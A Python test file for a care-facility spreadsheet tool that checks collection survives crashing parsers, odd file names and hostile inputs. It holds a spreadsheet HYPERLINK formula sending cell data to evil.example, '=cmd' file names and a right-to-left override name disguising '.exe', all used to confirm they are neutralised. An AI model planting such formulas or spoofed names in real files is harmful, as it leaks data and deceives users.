"""One hostile book, file name or list must not stop a municipality's round, nor make anything live (issue 9)."""

from __future__ import annotations

import errno
import json
import os
import re
import shutil
import signal
import zipfile
from pathlib import Path

import openpyxl
import pytest
from support.municipal_round import _cell, _prototypes, kx

from kaigo_xl.municipal import collect, pool
from kaigo_xl.municipal.service import collect_folder
from kaigo_xl.policy import Policy
from kaigo_xl.workbook import layout as L

pytestmark = pytest.mark.slow
EVIL = '=HYPERLINK("http://evil.example/?d="&B4,"x")'


@pytest.fixture(scope="module")
def protos():
    return _prototypes()


def _book(protos, number: str, name: str) -> bytes:
    return protos["養護"].render({L.S_FACILITY: {_cell("facility.number"): number, _cell("facility.name"): name}})


@pytest.fixture
def folder(tmp_path, protos) -> Path:
    d = tmp_path / "back"
    d.mkdir()
    for i in range(1, 4):
        (d / f"010000000{i}_園{i}.xlsx").write_bytes(_book(protos, f"010000000{i}", f"園{i}"))
    (d / "killer.xlsx").write_bytes(_book(protos, "0100000009", "危ない園"))
    return d


# ---- a book that kills its parser ----

def _dies_on_killer(how: str):
    real = collect.read_book

    def read(path, folder, policy):
        if path.name == "killer.xlsx":
            os.write(2, b"memory allocation of 531837746880 bytes failed\n")  # what python-calamine says as it dies
            if how == "abort":
                os._exit(134)  # what python-calamine's abort looks like from outside
            os.kill(os.getpid(), signal.SIGKILL)
        return real(path, folder, policy)

    return read


@pytest.mark.skipif(os.name != "posix", reason="the replaced reader reaches the workers by fork")
@pytest.mark.parametrize("how", ["abort", "sigkill"])
def test_a_book_that_kills_its_worker_becomes_unreadable_and_the_rest_is_read(folder, monkeypatch, how):
    monkeypatch.setattr(collect, "read_book", _dies_on_killer(how))
    books = sorted(folder.iterdir())
    results = pool.read_books(books, folder, Policy(), jobs=2)
    by_file = {r.file: r for r in results}
    assert by_file["killer.xlsx"].status == "読込不可"
    assert by_file["killer.xlsx"].message == pool.WORKER_DIED
    assert all(by_file[p.name].number == p.name[:10] for p in books if p.name != "killer.xlsx")


@pytest.mark.skipif(os.name != "posix", reason="the replaced reader reaches the workers by fork")
def test_what_a_dying_parser_prints_does_not_reach_the_clerk(folder, monkeypatch, capfd):
    monkeypatch.setattr(collect, "read_book", _dies_on_killer("abort"))
    pool.read_books(sorted(folder.iterdir()), folder, Policy(), jobs=2)
    assert "memory allocation" not in capfd.readouterr().err


@pytest.mark.skipif(os.name != "posix", reason="the replaced reader reaches the workers by fork")
def test_collect_still_writes_the_summary_when_a_worker_dies(folder, tmp_path, monkeypatch):
    monkeypatch.setattr(collect, "read_book", _dies_on_killer("abort"))
    summary, _ = collect_folder(folder, Policy(), out=tmp_path / "s.xlsx")
    assert [r.file for r in summary.unreadable] == ["killer.xlsx"]
    assert len(summary.results) == 3 and (tmp_path / "s.xlsx").exists()


def test_even_a_single_book_is_never_parsed_in_the_main_process(folder, monkeypatch):
    monkeypatch.setattr(collect, "read_book", _dies_on_killer("abort"))
    killer = folder / "killer.xlsx"
    assert pool.read_books([killer], folder, Policy())[0].status == "読込不可"


# ---- names nobody meant ----

def test_a_shift_jis_file_name_is_read_and_shown_decoded(folder, tmp_path):
    os.rename(os.fsencode(folder / "0100000001_園1.xlsx"), os.fsencode(folder) + b"/\x82\xb3\x82\xad\x82\xe7.xlsx")
    r = kx("collect", folder, "--out", tmp_path / "s.xlsx", "--json")
    assert r.returncode in (0, 1) and "Traceback" not in r.stderr
    book = next(f for f in json.loads(r.stdout)["facilities"] if f["file"] == "さくら.xlsx")
    assert book["number"] == "0100000001"
    assert any(f["code"] == "FILE_NAME_UNUSUAL" for f in book["findings"])
    assert (tmp_path / "s.xlsx").exists()


def test_a_control_character_in_a_file_name_or_a_number_is_reported_not_fatal(folder, tmp_path, protos):
    (folder / "ctl\x07name.xlsx").write_bytes(_book(protos, "0100_x0007_0005", "見えない園"))
    r = kx("collect", folder, "--out", tmp_path / "s.xlsx", "--json")
    assert r.returncode in (0, 1) and "Traceback" not in r.stderr and "Exception ignored" not in r.stderr
    book = next(f for f in json.loads(r.stdout)["facilities"] if f["file"] == "ctl\u2407name.xlsx")
    # the workbook reader cleans the cell at the boundary (kaigo_xl.texts) and says so at the cell
    assert book["number"] == "01000005"
    cleaned = [f for f in book["findings"] if f["code"] == "INPUT_NORMALISED" and f["cell"] == "C7"]
    assert cleaned and cleaned[0]["sheet"] == "施設情報"
    assert ("FILE_NAME_UNUSUAL", "warning") in {(f["code"], f["severity"]) for f in book["findings"]}


def test_formulas_from_facilities_and_file_names_are_written_as_text(folder, tmp_path, protos):
    (folder / "evil.xlsx").write_bytes(_book(protos, EVIL, EVIL))
    (folder / "=1+2.xlsx").write_text("not a book", encoding="utf-8")
    (folder / "=cmd.txt").write_text("x", encoding="utf-8")
    kx("collect", folder, "--out", tmp_path / "s.xlsx", "--csv", tmp_path / "s.csv")
    with zipfile.ZipFile(tmp_path / "s.xlsx") as zf:
        xml = "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas and not [f for f in formulas if "HYPERLINK" in f or "1+2" in f or "cmd" in f]
    assert xml.count('HYPERLINK("http://evil.example') >= 3  # 集計, 支払予定's header, 指摘一覧 … as text
    wb = openpyxl.load_workbook(tmp_path / "s.xlsx")
    header = [c.value for c in wb["支払予定"][3]]
    assert f"{EVIL} {EVIL}" in header
    excluded = [c.value for c in wb["読込不可・対象外"]["A"]]
    assert "=1+2.xlsx" in excluded and "=cmd.txt" in excluded
    text = (tmp_path / "s.csv").read_text(encoding="utf-8-sig")
    assert f"'{EVIL}" in text.replace('""', '"')


def test_feedback_files_hold_no_control_characters(folder, tmp_path, protos):
    (folder / "bad.xlsx").write_bytes(_book(protos, "0100_x001b_0006", "園\u202e6"))
    kx("collect", folder, "--out", tmp_path / "s.xlsx", "--feedback", tmp_path / "fb")
    for f in (tmp_path / "fb").iterdir():
        body = f.read_text(encoding="utf-8-sig")
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202e]", body + f.name), f.name


# ---- our own outputs ----

def test_collect_never_reads_its_own_summaries_backups_or_feedback(folder, tmp_path):
    for out in ("集計1.xlsx", "集計2.xlsx", "集計2.xlsx"):
        r = kx("collect", folder, "--out", folder / out, "--feedback", folder / "修正依頼", "--json")
    data = json.loads(r.stdout)
    assert len(data["facilities"]) == 4 and data["unreadable"] == []
    assert data["own_summaries"] == ["集計1.xlsx"]  # an earlier summary under another name: recognised
    assert not any(s.startswith("修正依頼") for s in data["skipped"])
    assert (folder / "集計2.xlsx.bak").exists()


# ---- the facility list ----

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
@pytest.mark.parametrize("command", ["distribute", "collect"])
def test_a_fifo_as_the_list_is_refused_before_opening(folder, tmp_path, command):
    fifo = tmp_path / "list.csv"
    os.mkfifo(fifo)
    args = (["distribute", fifo, "--out", tmp_path / "d"] if command == "distribute"
            else ["collect", folder, "--out", tmp_path / "s.xlsx", "--list", fifo])
    r = kx(*args)  # kx has a timeout: opening the FIFO would block forever
    assert r.returncode == 2 and "通常のファイルではありません" in r.stderr


def test_a_twenty_digit_number_in_an_xlsx_list_stays_exact(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["施設番号", "施設名", "種別", "市区町村"])
    ws.append([1.2345678901234567e19, "桁の多い園", "養護", "見本市"])  # made exact below
    ws.append([1.2345678901234567e19, "桁の失われた園", "養護", "見本市"])  # what Excel keeps of a typed number
    wb.save(tmp_path / "made.xlsx")
    with zipfile.ZipFile(tmp_path / "made.xlsx") as src, zipfile.ZipFile(tmp_path / "list.xlsx", "w") as dst:
        for n in src.namelist():
            part = src.read(n)
            if n == "xl/worksheets/sheet1.xml":  # a generator that writes the whole number, as some systems do
                part = re.sub(rb"<v>[0-9.]+e\+19</v>", b"<v>12345678901234567890</v>", part, count=1)
            dst.writestr(n, part)
    r = kx("distribute", tmp_path / "list.xlsx", "--out", tmp_path / "d")
    assert (tmp_path / "d" / "12345678901234567890_桁の多い園.xlsx").exists()
    assert r.returncode == 1 and "3行目" in r.stdout and "正確ではありません" in r.stdout


# ---- distribute ----

def test_distribute_strips_bidi_controls_from_file_names(tmp_path):
    src = tmp_path / "list.csv"
    src.write_text("施設番号,施設名,種別,市区町村\n0100000001,請求書\u202excod.exe,養護,見本市\n", encoding="utf-8")
    assert kx("distribute", src, "--out", tmp_path / "d").returncode == 0
    names = [p.name for p in (tmp_path / "d").iterdir()]
    assert "0100000001_請求書xcod.exe.xlsx" in names and not any("\u202e" in n for n in names)


def test_a_full_disk_still_leaves_the_list_of_what_was_made(tmp_path, monkeypatch, capsys):
    from kaigo_xl.commands.main import main
    from kaigo_xl.municipal import distribute as dist

    real, made = dist.atomic_write_bytes, []

    def write(path, data, **kw):
        if path.suffix == ".xlsx" and len(made) == 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        made.append(path)
        return real(path, data, **kw)

    monkeypatch.setattr(dist, "atomic_write_bytes", write)
    src = tmp_path / "list.csv"
    src.write_text("施設番号,施設名,種別,市区町村\n" + "".join(f"010000000{i},園{i},養護,見本市\n" for i in range(1, 6)),
                   encoding="utf-8")
    assert main(["distribute", str(src), "--out", str(tmp_path / "d")]) == 4
    out = capsys.readouterr()
    assert "3施設のブックを作成できませんでした" in out.out and "ディスクの空きがありません" in out.out
    manifest = (tmp_path / "d" / "配布一覧.csv").read_text(encoding="utf-8-sig")
    assert [line.split(",")[6] for line in manifest.splitlines()[1:]] == ["作成", "作成", "作成できず", "作成できず",
                                                                          "作成できず"]
    shutil.rmtree(tmp_path / "d")
